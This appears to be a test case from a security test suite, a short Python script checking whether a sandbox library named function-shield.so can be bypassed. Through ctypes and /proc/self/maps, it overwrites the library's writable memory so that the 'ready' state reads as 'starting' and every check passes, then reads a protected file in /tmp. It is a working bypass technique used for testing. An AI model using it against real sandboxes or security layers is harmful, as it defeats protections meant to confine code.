# class: machine_code
# rule: read_write_tmp native_code
# success: the core's writable memory is overwritten so that the core believes itself inside a door,
#   and a file in /tmp is read
# proof: read
import ctypes
import struct

from attack import FILE, attempt


def writable(lines):
    """The core's data, and the zeroed pages that follow it."""
    end = 0
    for line in lines:
        fields = line.split()
        low, high = (int(part, 16) for part in fields[0].split("-"))
        if "function-shield.so" in line:
            end = high
        if fields[1] == "rw-p" and (end == high or (low == end and len(fields) == 5)):
            end = high
            yield low, high


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        pieces = list(writable(maps.read().splitlines()))
    # The word that says "ready" is 2; where it is 1, "starting", every door passes.
    for low, high in pieces:
        words = struct.unpack("<%dI" % ((high - low) // 4), ctypes.string_at(low, high - low))
        for index, word in enumerate(words):
            if word == 2:
                ctypes.memmove(low + 4 * index, b"\1\0\0\0", 4)
    with open(FILE) as opened:
        return opened.read()
